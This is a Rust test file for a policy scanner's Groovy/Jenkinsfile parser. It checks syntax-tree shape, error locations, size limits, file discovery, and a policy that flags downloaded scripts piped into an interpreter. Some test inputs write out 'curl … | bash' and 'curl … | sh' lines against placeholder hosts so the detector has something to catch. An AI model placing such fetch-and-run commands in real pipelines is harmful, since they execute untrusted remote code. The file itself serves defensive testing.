//! conftest compatibility, Groovy (`Jenkinsfile`, `Jenkinsfile.*`, `*.groovy`): the concrete
//! syntax tree conftest's `groovy` parser gives policies. Snapshots of the tree's shape
//! (one line per node: kind, token text, line:column), the JSON contract conftest's own test
//! pins, errors with their location, the depth and size limits, a conftest-style policy on
//! Jenkinsfiles (flagged and not flagged), discovery by name, `--parser groovy` and
//! `parse_config("groovy", …)`. Fixtures: `fixtures/conftest/formats/groovy/`.

mod common;

use std::fmt::Write as _;

use common::{code, custos, repo, scan_json, stderr, stdout};
use custos::document::LineIndex;
use custos::parse::{self, Limits, Syntax};

const DIR: &str = "fixtures/conftest/formats/groovy";

fn parse_ok(src: &str) -> parse::ParsedDoc {
    let parsed = parse::parse(Syntax::Groovy, src, &Limits::default()).expect("groovy parser");
    assert!(parsed.error.is_none(), "{:?}", parsed.error);
    parsed.docs.into_iter().next().expect("one document")
}

/// The tree as an indented outline, after checking that every node's span covers exactly its
/// text (tokens) and starts at its line and column.
fn outline(src: &str) -> String {
    let doc = parse_ok(src);
    let lines = LineIndex::new(src);
    for (pointer, span) in &doc.spans {
        let node = doc.value.pointer(pointer).expect("span of a node");
        if let Some(text) = node["text"].as_str() {
            assert_eq!(&src[span.range()], text, "{pointer}");
        }
        if !pointer.is_empty() {
            let (line, col) = lines.line_col(src, span.start);
            assert_eq!(node["line"], line, "{pointer}");
            assert_eq!(node["column"], col, "{pointer}");
        }
    }
    let mut out = String::new();
    let mut stack = vec![(&doc.value, 0usize)];
    while let Some((node, depth)) = stack.pop() {
        let _ = write!(
            out,
            "{:indent$}{}",
            "",
            node["kind"].as_str().unwrap_or("?"),
            indent = depth * 2
        );
        if let Some(text) = node["text"].as_str() {
            let _ = write!(out, " {text:?}");
        }
        let _ = writeln!(out, " {}:{}", node["line"], node["column"]);
        if let Some(children) = node["children"].as_array() {
            stack.extend(children.iter().rev().map(|c| (c, depth + 1)));
        }
    }
    out
}

fn fixture(name: &str) -> String {
    std::fs::read_to_string(repo().join(DIR).join(name)).expect("fixture")
}

/// conftest's `TestParserJSONContract`, byte for byte (keys in conftest's order).
#[test]
fn json_contract_is_conftests() {
    let doc = parse_ok("sh 'echo ok'");
    assert_eq!(
        serde_json::to_string(&doc.value).expect("json"),
        r#"{"kind":"FileNode","line":1,"column":1,"children":[{"kind":"ExpressionStmt","line":1,"column":1,"children":[{"kind":"CallExpr","line":1,"column":1,"children":[{"kind":"IdentExpr","line":1,"column":1,"children":[{"kind":"Identifier","text":"sh","line":1,"column":1}]},{"kind":"LiteralExpr","line":1,"column":4,"children":[{"kind":"StringLiteral","text":"'echo ok'","line":1,"column":4}]}]}]}]}"#
    );
    // An empty file is a FileNode without children, at 1:1.
    assert_eq!(
        serde_json::to_string(&parse_ok("// nothing\n").value).expect("json"),
        r#"{"kind":"FileNode","line":1,"column":1}"#
    );
}

#[test]
fn declarative_pipeline_shape() {
    insta::assert_snapshot!(outline(&fixture("Jenkinsfile")));
}

#[test]
fn scripted_pipeline_with_gstrings_shape() {
    insta::assert_snapshot!(outline(&fixture("scripted.groovy")));
}

#[test]
fn string_forms_shape() {
    insta::assert_snapshot!(outline(&fixture("strings.groovy")));
}

/// conftest's `TestParser`: positions of identifiers in a declarative pipeline.
#[test]
fn positions_are_one_based_lines_and_columns() {
    let src = "pipeline {\n  agent any\n  stages {\n    stage('Build') {\n      steps {\n        sh 'make build'\n      }\n    }\n  }\n}";
    let text = outline(src);
    assert!(text.contains("Identifier \"pipeline\" 1:1"), "{text}");
    assert!(text.contains("Identifier \"sh\" 6:9"), "{text}");
    assert!(
        text.contains("StringLiteral \"'make build'\" 6:12"),
        "{text}"
    );
    // Columns count characters, as custos's locations do.
    assert!(outline("x = 'é'; y = 1").contains("Identifier \"y\" 1:10"));
}

/// A syntax error is an error at its line and column (conftest: `parse groovy at 1:11`).
#[test]
fn parse_errors_have_a_location() {
    for (src, needle, line, col) in [
        ("pipeline {", "expected `}`", 1, 11),
        ("node {\n  sh 'make\n}\n", "string is never closed", 2, 6),
        ("stage('a' {\n}\n", "expected `)`", 1, 11),
        ("echo \"total: $ 5\"\n", "`$` must be followed", 1, 14),
        ("def x = [1, 2\n", "expected `]`", 2, 1),
        ("if (x) {\n} else else\n", "expected an expression", 2, 8),
        ("sh $/never closed\n", "string is never closed", 1, 4),
        ("/* open comment\nnode {}", "comment is never closed", 1, 1),
    ] {
        let parsed = parse::parse(Syntax::Groovy, src, &Limits::default()).expect("parser");
        let err = parsed.error.unwrap_or_else(|| panic!("{src:?} parsed"));
        assert!(err.message.contains(needle), "{src:?}: {}", err.message);
        let at = err.span.expect("a location").start;
        assert_eq!(
            LineIndex::new(src).line_col(src, at),
            (line, col),
            "{src:?}: {}",
            err.message
        );
    }
    // Through the CLI: a broken Jenkinsfile named on the command line fails the scan with a
    // parse-error finding at its line.
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("Jenkinsfile"), "pipeline {\n  agent any\n").expect("write");
    let (exit, report, _) = scan_json(&["Jenkinsfile", "--no-config"], dir.path());
    assert_eq!(exit, 1, "{report}");
    let f = &report["findings"][0];
    assert_eq!(f["rule_id"], "parse-error", "{report}");
    assert_eq!(f["location"]["line"], 3, "{report}");
}

/// conftest's bounds: a tree deeper than 256 levels or larger than 100,000 nodes is an error
/// (nesting built by recursion and by loops alike), never a crash.
#[test]
fn depth_and_size_limits() {
    let error = |src: &str| {
        parse::parse(Syntax::Groovy, src, &Limits::default())
            .and_then(|p| p.error)
            .map(|e| e.message)
            .unwrap_or_default()
    };
    let deep =
        |open: &str, close: &str, n: usize| format!("{}1{}", open.repeat(n), close.repeat(n));
    // conftest's TestParserRejectsExcessiveNesting.
    assert!(error(&deep("(", ")", 256)).contains("syntax tree exceeds maximum depth of 256"));
    for src in [
        deep("{", "}", 130),
        deep("[", "]", 260),
        deep("\"${", "}\"", 130),
        deep("!", "", 300),
        deep("f(", ")", 260),
        format!("a{}", ".b".repeat(300)),
        format!("1{}", " + 1".repeat(300)),
        format!("x = \"$a{}\"", ".b".repeat(300)),
    ] {
        assert!(
            error(&src).contains("maximum depth of 256"),
            "{}",
            &src[..20]
        );
    }
    // Just inside the limit: FileNode > ExpressionStmt > 250 × ParenExpr > LiteralExpr > token.
    parse_ok(&deep("(", ")", 250));
    assert!(error(&"a\n".repeat(40_000)).contains("maximum node count of 100000"));
    parse_ok(&"a\n".repeat(30_000));
}

/// conftest's example in spirit: a policy walks the tree for shell steps and joins the static
/// text of their strings, so neither a split GString nor a slashy string hides a download
/// piped into an interpreter. `Jenkinsfile.safe` and `strings.groovy` are not flagged.
#[test]
fn jenkins_policy_flags_piped_downloads() {
    let policy = format!("{DIR}/policy");
    let (exit, report, err) = scan_json(
        &[DIR, "--policy", &policy, "--no-bundled", "--no-config"],
        &repo(),
    );
    assert_eq!(exit, 1, "{report}\n{err}");
    let mut got: Vec<(String, u64, String)> = report["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f| {
            assert_eq!(f["rule_id"], "main", "{f}");
            let path = f["path"].as_str().unwrap_or_default();
            (
                path.rsplit('/').next().unwrap_or_default().to_owned(),
                f["location"]["line"].as_u64().unwrap_or(0),
                f["message"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    got.sort();
    let want = [
        ("Jenkinsfile", 3, "pipeline runs on any agent"),
        (
            "Jenkinsfile",
            20,
            "line 20: a downloaded script is piped into an interpreter",
        ),
        (
            "scripted.groovy",
            14,
            "line 14: a downloaded script is piped into an interpreter",
        ),
        (
            "scripted.groovy",
            23,
            "line 23: a downloaded script is piped into an interpreter",
        ),
    ];
    let want: Vec<(String, u64, String)> = want
        .iter()
        .map(|(p, l, m)| ((*p).to_owned(), *l, (*m).to_owned()))
        .collect();
    assert_eq!(got, want);
    assert_eq!(report["notes"], serde_json::json!([]), "{report}");
}

/// The policy's own unit tests, on documents built with `parse_config("groovy", …)`.
#[test]
fn parse_config_groovy_in_policy_tests() {
    let o = custos(&["policy", "test", &format!("{DIR}/policy")], &repo());
    assert_eq!(code(&o), 0, "{}\n{}", stdout(&o), stderr(&o));
    assert!(stdout(&o).contains("5 passed, 0 failed"), "{}", stdout(&o));
}

/// conftest's names: `Jenkinsfile`, `Jenkinsfile.*` and `*.groovy` are read as Groovy, named
/// or discovered; `--parser groovy` reads any other name (and standard input).
#[test]
fn groovy_is_picked_by_name_and_by_parser_flag() {
    use std::path::Path;
    for name in [
        "Jenkinsfile",
        "jenkinsfile",
        "Jenkinsfile.release",
        "vars/deploy.groovy",
    ] {
        assert_eq!(
            parse::syntax_for_conftest_path(Path::new(name)),
            Ok(Syntax::Groovy),
            "{name}"
        );
        assert_eq!(
            parse::conftest_only_syntax(Path::new(name)),
            Some(Syntax::Groovy),
            "{name}"
        );
    }
    for name in ["Jenkinsfile-old", "build.gradle", "pipeline.txt"] {
        assert_ne!(
            parse::conftest_only_syntax(Path::new(name)),
            Some(Syntax::Groovy),
            "{name}"
        );
    }
    let policy = repo().join(DIR).join("policy").display().to_string();
    let dir = tempfile::tempdir().expect("tempdir");
    let risky = "node {\n  sh 'curl -s https://x.example/i.sh | bash'\n}\n";
    std::fs::write(dir.path().join("ci.txt"), risky).expect("write");
    let args = ["ci.txt", "--policy", &policy, "--no-bundled", "--no-config"];
    let (exit, _, _) = scan_json(&args, dir.path());
    assert_eq!(exit, 0, "without --parser a .txt file is text");
    let mut forced = args.to_vec();
    forced.extend(["--parser", "groovy"]);
    let (exit, report, _) = scan_json(&forced, dir.path());
    assert_eq!(exit, 1, "{report}");
    assert_eq!(report["findings"][0]["location"]["line"], 2, "{report}");
    // Standard input.
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_custos"))
        .args([
            "scan",
            "-",
            "--parser",
            "groovy",
            "--policy",
            &policy,
            "--no-bundled",
            "--no-config",
        ])
        .current_dir(dir.path())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    if let Some(mut stdin) = child.stdin.take() {
        use std::io::Write as _;
        stdin.write_all(risky.as_bytes()).expect("stdin");
    }
    let o = child.wait_with_output().expect("wait");
    assert_eq!(code(&o), 1, "{}\n{}", stdout(&o), stderr(&o));
    assert!(
        stdout(&o).contains("piped into an interpreter"),
        "{}",
        stdout(&o)
    );
}

/// Hostile input: every truncation of every fixture, and strings of Groovy's special
/// characters, parse to a tree or an error with a location inside the input — never a panic.
#[test]
fn truncated_and_random_inputs_never_panic() {
    let check = |src: &str| {
        let parsed = parse::parse(Syntax::Groovy, src, &Limits::default()).expect("parser");
        match parsed.error {
            Some(e) => {
                let span = e.span.expect("an error has a location");
                assert!(
                    span.end <= src.len() && src.is_char_boundary(span.start),
                    "{src:?}"
                );
            }
            None => {
                for span in parsed.docs.iter().flat_map(|d| d.spans.values()) {
                    assert!(span.end <= src.len(), "{src:?}");
                    assert!(src.is_char_boundary(span.start) && src.is_char_boundary(span.end));
                }
            }
        }
    };
    for name in [
        "Jenkinsfile",
        "Jenkinsfile.safe",
        "scripted.groovy",
        "strings.groovy",
    ] {
        let src = fixture(name);
        for (i, _) in src.char_indices() {
            check(&src[..i]);
            check(&src[i..]);
        }
    }
    let alphabet: Vec<char> = "\\\n \t\"'/$={}()[]<>.,:;?!*-+@#é0a_Z".chars().collect();
    let mut state: u64 = 0x9E37_79B9_7F4A_7C15;
    for _ in 0..2000 {
        let mut s = String::new();
        for _ in 0..40 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            let idx = usize::try_from(state % alphabet.len() as u64).unwrap_or(0);
            s.push(alphabet[idx]);
        }
        check(&s);
    }
}

#[test]
fn deeply_nested_pipelines_reach_user_policies() {
    // 40 nested closures: about 200 JSON levels in the tree, beyond serde_json's default
    // nesting limit of 128 that the policy worker's request decoder once stopped at.
    let dir = tempfile::tempdir().unwrap();
    let depth = 40;
    let mut src = String::new();
    for i in 0..depth {
        let _ = writeln!(src, "stage('s{i}') {{");
    }
    src.push_str("sh 'curl -s https://example.invalid/x.sh | sh'\n");
    for _ in 0..depth {
        src.push_str("}\n");
    }
    std::fs::write(dir.path().join("Jenkinsfile"), &src).unwrap();
    std::fs::write(
        dir.path().join("p.rego"),
        "package main\nimport rego.v1\n\ndeny contains \"deep sh call\" if {\n  \
         walk(input, [_, t])\n  t.kind == \"Identifier\"\n  t.text == \"sh\"\n}\n",
    )
    .unwrap();
    let (exit, report, _) = scan_json(
        &[
            "Jenkinsfile",
            "--policy",
            "p.rego",
            "--no-bundled",
            "--no-config",
        ],
        dir.path(),
    );
    let messages: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["message"].as_str())
        .collect();
    assert_eq!(messages, ["deep sh call"], "{report:#}");
    assert_eq!(exit, 1);
}
